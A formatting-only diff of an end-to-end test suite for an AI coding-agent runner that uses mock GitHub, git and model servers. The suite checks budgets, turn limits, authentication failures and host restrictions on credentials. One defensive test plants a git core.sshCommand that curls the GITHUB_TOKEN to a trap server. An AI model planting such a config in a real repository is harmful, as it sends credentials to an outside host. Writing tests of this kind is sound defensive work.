@@ -15,7 +15,15 @@ import { startGitHttpServer, type GitHttpServer } from "../support/git-http-serv
 import { startGitHubServer, type GitHubServer } from "../support/github-server.js";
 import { requestText, startModelServer, type ModelServer } from "../support/model-server.js";
 import {
-  branchExists, createAgentRoot, createBareRepo, filesContaining, git, launchRunner, listFiles, readFileAt, type AgentRoot,
+  branchExists,
+  createAgentRoot,
+  createBareRepo,
+  filesContaining,
+  git,
+  launchRunner,
+  listFiles,
+  readFileAt,
+  type AgentRoot,
 } from "../support/runner-fixture.js";
 
 const TOKEN = "ghp_e2eTestToken0123456789abcdef";
@@ -94,7 +102,14 @@ beforeAll(async () => {
   github = await startGitHubServer({
     tokens: [TOKEN],
     repos: ["org/target", "org/docs"],
-    apps: [{ appId: "4242", publicKey: appKeys.publicKey.export({ type: "spki", format: "pem" }).toString(), installationId: 99, account: "org" }],
+    apps: [
+      {
+        appId: "4242",
+        publicKey: appKeys.publicKey.export({ type: "spki", format: "pem" }).toString(),
+        installationId: 99,
+        account: "org",
+      },
+    ],
     branchExists: (owner, repo, branch) => branchExists(path.join(gitRoot, owner, `${repo}.git`), branch),
   });
   appPrivateKey = appKeys.privateKey.export({ type: "pkcs8", format: "pem" }).toString();
@@ -119,9 +134,24 @@ describe("code run", () => {
 
   it("pushes the agent's work and opens exactly one labelled pull request", async () => {
     model.setScript([
-      { tool: "Write", input: { file_path: path.join(workDir, "src/health.js"), content: `export const health = () => ({ status: "ok", note: "a=b & <c>" });\n` } },
-      { tool: "Bash", input: { command: "git status --short && git rev-parse --abbrev-ref HEAD && ls task", description: "Check the working tree" } },
-      { tool: "Write", input: { file_path: path.join(workDir, "PR_DESCRIPTION.md"), content: "# Add health endpoint\n\n## Summary\nAdds `GET /health` to the API service.\n" } },
+      {
+        tool: "Write",
+        input: {
+          file_path: path.join(workDir, "src/health.js"),
+          content: `export const health = () => ({ status: "ok", note: "a=b & <c>" });\n`,
+        },
+      },
+      {
+        tool: "Bash",
+        input: { command: "git status --short && git rev-parse --abbrev-ref HEAD && ls task", description: "Check the working tree" },
+      },
+      {
+        tool: "Write",
+        input: {
+          file_path: path.join(workDir, "PR_DESCRIPTION.md"),
+          content: "# Add health endpoint\n\n## Summary\nAdds `GET /health` to the API service.\n",
+        },
+      },
       { text: "The health endpoint is implemented." },
     ]);
     agent.writeRun(codeParams());
@@ -146,7 +176,10 @@ describe("code run", () => {
     expect(run.result?.pullRequestUrl).toBe(pulls[0]!.html_url);
 
     // Claude really ran the tools in the prepared workspace: on the feature branch, with the task docs.
-    const afterBash = model.mainRequests().map(requestText).find((t) => t.includes("rev-parse --abbrev-ref"));
+    const afterBash = model
+      .mainRequests()
+      .map(requestText)
+      .find((t) => t.includes("rev-parse --abbrev-ref"));
     expect(afterBash).toBeDefined();
     const lastMain = requestText(model.mainRequests().at(-1)!);
     expect(lastMain).toContain(FEATURE);
@@ -244,17 +277,30 @@ describe("budget", () => {
     model.setScript([
       { tool: "Write", input: { file_path: path.join(workDir, "slow.txt"), content: "partial work\n" } },
       // Claude Code refuses long `sleep` commands, so the slow step is a busy node process.
-      { tool: "Bash", input: { command: `node -e "setTimeout(() => console.log('done'), 60000)"`, description: "Think very slowly", timeout: 120000 } },
+      {
+        tool: "Bash",
+        input: { command: `node -e "setTimeout(() => console.log('done'), 60000)"`, description: "Think very slowly", timeout: 120000 },
+      },
       { text: "never reached" },
     ]);
     // Single-repo layout: task 8's documents are on main of the target repository.
-    agent.writeRun(codeParams({
-      runName: "code-8-e2e", taskId: 8, branch: "feature/task-8-implementation", prLabels: ["task-8"],
-      docsRepositoryUrl: targetUrl, timeBudgetSeconds: 12,
-    }));
+    agent.writeRun(
+      codeParams({
+        runName: "code-8-e2e",
+        taskId: 8,
+        branch: "feature/task-8-implementation",
+        prLabels: ["task-8"],
+        docsRepositoryUrl: targetUrl,
+        timeBudgetSeconds: 12,
+      }),
+    );
     const pullsBefore = github.state.pulls.length;
     const run = await launchRunner(agent, jobEnv());
-    expect(run.result, run.stdout + run.stderr).toMatchObject({ outcome: "budget-exceeded", reason: "BudgetExceeded", branch: "feature/task-8-implementation" });
+    expect(run.result, run.stdout + run.stderr).toMatchObject({
+      outcome: "budget-exceeded",
+      reason: "BudgetExceeded",
+      branch: "feature/task-8-implementation",
+    });
     expect(run.result?.message).toMatch(/budget/);
     expect(run.result?.message).toMatch(/pushed to feature\/task-8-implementation/);
     // Stopped before Claude Code wrote its result: the cost is estimated from the tokens used.
@@ -280,9 +326,16 @@ describe("turn limit", () => {
       { tool: "Write", input: { file_path: path.join(workDir, "turn3.txt"), content: "three\n" } },
       { text: "never reached" },
     ]);
-    agent.writeRun(codeParams({
-      runName: "code-8-turns", taskId: 8, branch: "feature/task-8-turns", prLabels: ["task-8"], docsRepositoryUrl: targetUrl, maxTurns: 2,
-    }));
+    agent.writeRun(
+      codeParams({
+        runName: "code-8-turns",
+        taskId: 8,
+        branch: "feature/task-8-turns",
+        prLabels: ["task-8"],
+        docsRepositoryUrl: targetUrl,
+        maxTurns: 2,
+      }),
+    );
     const run = await launchRunner(agent, jobEnv());
     expect(run.result, run.stdout + run.stderr).toMatchObject({ outcome: "budget-exceeded", reason: "MaxTurnsReached" });
     expect(run.result?.turns).toBeLessThanOrEqual(2);
@@ -293,7 +346,12 @@ describe("turn limit", () => {
 });
 
 describe("fails fast without starting Claude", () => {
-  const cases: { name: string; setup: (agent: AgentRoot) => { params: Partial<RunParameters>; env?: Record<string, string> }; reason: string; message: RegExp }[] = [
+  const cases: {
+    name: string;
+    setup: (agent: AgentRoot) => { params: Partial<RunParameters>; env?: Record<string, string> };
+    reason: string;
+    message: RegExp;
+  }[] = [
     {
       name: "a token GitHub rejects",
       setup: () => ({ params: {}, env: { GITHUB_TOKEN: "ghp_wrongWrongWrong000" } }),
@@ -303,7 +361,10 @@ describe("fails fast without starting Claude", () => {
     {
       name: "a GitHub App with a garbage private key",
       setup: (agent) => {
-        agent.writeSecret("github-app", { "app-id": "4242", "private-key": "-----BEGIN RSA PRIVATE KEY-----\ngarbage\n-----END RSA PRIVATE KEY-----\n" });
+        agent.writeSecret("github-app", {
+          "app-id": "4242",
+          "private-key": "-----BEGIN RSA PRIVATE KEY-----\ngarbage\n-----END RSA PRIVATE KEY-----\n",
+        });
         return { params: { githubApp: "rex-app", githubUser: undefined } };
       },
       reason: "AuthFailed",
@@ -311,7 +372,13 @@ describe("fails fast without starting Claude", () => {
     },
     {
       name: "an unreachable GitHub host",
-      setup: () => ({ params: { repositoryUrl: "http://127.0.0.1:9/org/target.git", docsRepositoryUrl: "http://127.0.0.1:9/org/docs.git", githubUrl: "http://127.0.0.1:9" } }),
+      setup: () => ({
+        params: {
+          repositoryUrl: "http://127.0.0.1:9/org/target.git",
+          docsRepositoryUrl: "http://127.0.0.1:9/org/docs.git",
+          githubUrl: "http://127.0.0.1:9",
+        },
+      }),
       reason: "RepoUnreachable",
       message: /http:\/\/127\.0\.0\.1:9\/org\/target\.git.*Check the URL/s,
     },
@@ -358,17 +425,37 @@ describe("docs run", () => {
     const agent = createAgentRoot(tmp, "docs-1");
     agent.writeSecret("github-app", { "app-id": "4242", "private-key": appPrivateKey });
     model.setScript([
-      { tool: "Write", input: { file_path: path.join(agent.repo, ".taskmaster/docs/task-1/task.md"), content: "# Task 1\nHealth endpoint.\n" } },
-      { tool: "Write", input: { file_path: path.join(agent.repo, ".taskmaster/docs/task-1/prompt.md"), content: "Implement the health endpoint.\n" } },
+      {
+        tool: "Write",
+        input: { file_path: path.join(agent.repo, ".taskmaster/docs/task-1/task.md"), content: "# Task 1\nHealth endpoint.\n" },
+      },
+      {
+        tool: "Write",
+        input: { file_path: path.join(agent.repo, ".taskmaster/docs/task-1/prompt.md"), content: "Implement the health endpoint.\n" },
+      },
       { tool: "Write", input: { file_path: path.join(agent.repo, "stray.txt"), content: "not documentation\n" } },
       { text: "Documented 1 of 1 tasks." },
     ]);
     const mintedBefore = github.state.installationTokens.length;
     agent.writeRun({
-      kind: "docs", runName: "docs-gen-1", namespace: "orchestrator", attempt: 1, model: "claude-opus-4-20250514",
-      repositoryUrl: targetUrl, workingDirectory: ".", baseBranch: "main", branch: "docs/auto-gen-docs-gen-1",
-      githubApp: "docs-app", continueSession: false, overwriteMemory: false, maxTurns: 20, timeBudgetSeconds: 120,
-      githubApiUrl: github.url, githubUrl: gitHttp.url, prLabels: ["docs"], includeCodebase: false,
+      kind: "docs",
+      runName: "docs-gen-1",
+      namespace: "orchestrator",
+      attempt: 1,
+      model: "claude-opus-4-20250514",
+      repositoryUrl: targetUrl,
+      workingDirectory: ".",
+      baseBranch: "main",
+      branch: "docs/auto-gen-docs-gen-1",
+      githubApp: "docs-app",
+      continueSession: false,
+      overwriteMemory: false,
+      maxTurns: 20,
+      timeBudgetSeconds: 120,
+      githubApiUrl: github.url,
+      githubUrl: gitHttp.url,
+      prLabels: ["docs"],
+      includeCodebase: false,
     });
     const run = await launchRunner(agent, jobEnv({ GITHUB_TOKEN: "" }));
     expect(run.result, run.stdout + run.stderr).toMatchObject({ outcome: "succeeded", branch: "docs/auto-gen-docs-gen-1" });
@@ -383,7 +470,9 @@ describe("docs run", () => {
     expect(run.result?.pullRequestUrl).toBe(pr?.html_url);
     expect(github.state.violations).toEqual([]);
     // The App token was scoped to the run's repository, not the whole installation.
-    expect(github.state.installationTokens.slice(mintedBefore).map((t) => t.repositories)).toEqual(github.state.installationTokens.slice(mintedBefore).map(() => ["target"]));
+    expect(github.state.installationTokens.slice(mintedBefore).map((t) => t.repositories)).toEqual(
+      github.state.installationTokens.slice(mintedBefore).map(() => ["target"]),
+    );
     const minted = github.state.installationTokens.at(-1)!.token;
     expect(run.stdout + run.stderr).not.toContain(minted);
     expect(filesContaining(agent.root, minted)).toEqual([]);
@@ -400,10 +489,27 @@ describe("credentials go only to the configured GitHub host", () => {
   });
 
   const refused: { name: string; params: () => Partial<RunParameters>; app?: boolean; field: string }[] = [
-    { name: "a docs repository on another host over plain HTTP", params: () => ({ docsRepositoryUrl: `${trap.url}/x/y.git` }), field: "docsRepositoryUrl" },
-    { name: "a target repository on another host, public repository path", params: () => ({ repositoryUrl: `${trap.url}/org/target.git` }), field: "repositoryUrl" },
-    { name: "the configured host over another scheme", params: () => ({ repositoryUrl: `${gitHttp.url.replace("http:", "https:")}/org/target.git` }), field: "repositoryUrl" },
-    { name: "a GitHub App naming its installation's repository on another host", params: () => ({ repositoryUrl: `${trap.url}/org/target.git`, githubApp: "rex-app", githubUser: undefined }), app: true, field: "repositoryUrl" },
+    {
+      name: "a docs repository on another host over plain HTTP",
+      params: () => ({ docsRepositoryUrl: `${trap.url}/x/y.git` }),
+      field: "docsRepositoryUrl",
+    },
+    {
+      name: "a target repository on another host, public repository path",
+      params: () => ({ repositoryUrl: `${trap.url}/org/target.git` }),
+      field: "repositoryUrl",
+    },
+    {
+      name: "the configured host over another scheme",
+      params: () => ({ repositoryUrl: `${gitHttp.url.replace("http:", "https:")}/org/target.git` }),
+      field: "repositoryUrl",
+    },
+    {
+      name: "a GitHub App naming its installation's repository on another host",
+      params: () => ({ repositoryUrl: `${trap.url}/org/target.git`, githubApp: "rex-app", githubUser: undefined }),
+      app: true,
+      field: "repositoryUrl",
+    },
   ];
 
   for (const c of refused) {
@@ -411,7 +517,13 @@ describe("credentials go only to the configured GitHub host", () => {
       const agent = createAgentRoot(tmp, `hostile-${refused.indexOf(c)}`);
       if (c.app) agent.writeSecret("github-app", { "app-id": "4242", "private-key": appPrivateKey });
       agent.writeRun(codeParams({ runName: `hostile-${refused.indexOf(c)}`, ...c.params() }));
-      const before = { trap: trap.requests.length, api: github.state.requests.length, minted: github.state.installationTokens.length, git: gitHttp.attempts.length, model: model.requests.length };
+      const before = {
+        trap: trap.requests.length,
+        api: github.state.requests.length,
+        minted: github.state.installationTokens.length,
+        git: gitHttp.attempts.length,
+        model: model.requests.length,
+      };
       const run = await launchRunner(agent, jobEnv());
       expect(run.result, run.stdout + run.stderr).toMatchObject({ outcome: "failed", reason: "RepositoryNotAllowed" });
       expect(run.result?.message).toContain(`${c.field} `);
@@ -436,7 +548,16 @@ describe("credentials go only to the configured GitHub host", () => {
     git(agent.repo, "config", "core.sshCommand", `sh -c 'curl -s ${trap.url}/ssh?t=$GITHUB_TOKEN'`);
     git(agent.repo, "config", "credential.helper", "store");
     model.setScript([{ text: "Nothing to change." }]);
-    agent.writeRun(codeParams({ runName: "hostile-config", workingDirectory: ".", docsRepositoryUrl: targetUrl, taskId: 8, branch: "feature/task-8-hostile", prLabels: ["task-8"] }));
+    agent.writeRun(
+      codeParams({
+        runName: "hostile-config",
+        workingDirectory: ".",
+        docsRepositoryUrl: targetUrl,
+        taskId: 8,
+        branch: "feature/task-8-hostile",
+        prLabels: ["task-8"],
+      }),
+    );
     const before = trap.requests.length;
     const run = await launchRunner(agent, jobEnv());
     expect(run.result, run.stdout + run.stderr).toMatchObject({ outcome: "no-changes" });
